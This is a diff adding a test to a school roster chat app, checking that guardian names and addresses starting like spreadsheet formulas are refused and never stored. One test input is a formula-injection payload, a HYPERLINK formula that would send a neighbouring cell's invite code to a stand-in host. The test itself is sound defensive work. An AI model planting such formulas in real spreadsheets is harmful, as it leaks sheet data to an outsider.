@@ -196,3 +196,32 @@ def test_the_forms_fixed_words_are_read_in_the_readers_language(flows, school, u
     li.send("/card 李四")
     assert "• gender: female" in li.text and "• left-behind type: mother away, father unable to guard" in li.text
     assert "• health: 患病（哮喘）" in li.text  # not one of the form's words: as the school typed it
+
+
+def test_a_correction_the_roster_import_would_refuse_is_refused_and_asked_again(flows, school, uow_factory):
+    """A name typed as a live formula (it would sit next to the invite codes in the sheet) never reaches the card."""
+    li = Chat(flows, ACCOUNTS["li"])
+    li.send("/card 张三")
+    li.tap("更换委托监护人")
+    li.send('=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母')
+    assert "的开头像电子表格公式；请去掉开头的 =、+、- 或 @" in li.text
+    assert "已保存" not in li.text and "张三的新委托监护人：" in li.text  # the question again, nothing lost
+    li.send("张桂英 13800001111 " + "外" * 33)  # the relation's column holds 32 characters
+    assert "超过 32 个字符" in li.text and "张三的新委托监护人：" in li.text
+    li.send("张桂英 ＝13800001111 外祖母")  # a full-width = before the number is a formula too
+    assert "的开头像电子表格公式" in li.text
+    li.send("张 桂英 13800001111 外祖母")  # a register's padded name, as the import reads it
+    assert "已保存，修改已记录。" in li.text and "• 委托监护人：张桂英（外祖母）138 0000 1111" in li.text
+    li.tap("更正住址")
+    li.send("-1+HYPERLINK(\"http://x.example\")")
+    assert "的开头像电子表格公式" in li.text and "张三的新住址：" in li.text
+    with uow_factory() as uow:
+        uow.session.get(Person, school.li).locale = "en"
+        uow.commit()
+    li.send("@SUM(1,2)")
+    assert "starts like a spreadsheet formula; write it without the leading =, +, - or @" in li.text
+    with uow_factory() as uow:
+        changes = uow.session.scalars(select(RecordChange.new_value)).all()
+        names = uow.session.scalars(select(Person.name)).all()
+    assert changes == ["张桂英 +8613800001111"]
+    assert not any(n.lstrip().startswith(("=", "＝", "-", "@")) for n in names)
